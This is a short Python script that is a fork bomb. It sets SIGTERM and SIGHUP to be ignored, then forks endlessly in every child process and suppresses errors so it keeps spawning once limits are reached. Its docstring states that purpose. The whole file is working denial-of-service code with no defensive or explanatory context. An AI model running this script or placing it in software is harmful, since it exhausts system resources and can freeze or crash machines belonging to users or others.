"""Forks for ever, in every process, deaf to polite signals."""
import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
